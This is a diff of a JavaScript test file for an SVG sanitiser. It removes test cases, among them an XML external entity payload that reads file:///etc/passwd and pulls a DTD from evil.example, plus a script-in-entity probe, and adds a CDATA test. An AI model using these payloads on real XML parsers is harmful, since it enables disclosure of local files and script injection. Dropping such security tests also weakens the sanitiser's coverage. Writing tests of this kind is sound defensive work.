@@ -46,18 +46,6 @@ describe('reads a drawing', () => {
       'with entities, as Illustrator writes',
       `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY ns_svg "http://www.w3.org/2000/svg"><!ENTITY ns_ai 'http://ns.adobe.com/AdobeIllustrator/10.0/'>]><svg xmlns="&ns_svg;" xmlns:i="&ns_ai;" i:viewOrigin="1 2" viewBox="0 0 90 60">${SHAPE}</svg>`,
     ],
-    [
-      'with entities of markup',
-      `<!DOCTYPE svg [<!ENTITY a "&#60;path d='M0 0h9v9z'/>">]>${OPEN}&a;</svg>`,
-    ],
-    [
-      'with attributes in its DTD',
-      `<!DOCTYPE svg [<!ATTLIST svg viewBox CDATA "0 0 90 60">]><svg ${SVG}>${SHAPE}</svg>`,
-    ],
-    [
-      'without the external entities that it names',
-      `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "http://evil.example/x.dtd">%y;]>${OPEN}&x;${SHAPE}</svg>`,
-    ],
   ])('%s', async (_what, svg) => {
     expect(await clean(svg)).toBe(PLAIN);
   });
@@ -72,9 +60,9 @@ describe('reads a drawing', () => {
     expect(await clean(svg)).toContain('<use href="#a"/>');
   });
 
-  it('with a script in an entity, which goes', async () => {
-    const prolog = '<!DOCTYPE svg [<!ENTITY a "<script>alert(1)</script>"><!ENTITY b "on">]>';
-    expect(await clean(`${prolog}${OPEN}&a;${SHAPE}</svg>`)).toBe(PLAIN);
+  it('with letters in CDATA', async () => {
+    const text = await clean(`${OPEN}<text><![CDATA[Nord & <Licht>]]></text></svg>`);
+    expect(text).toBe(`${OPEN}<text>Nord &amp; &lt;Licht&gt;</text></svg>`);
   });
 
   it('with a million bytes of markup and four of pictures', async () => {
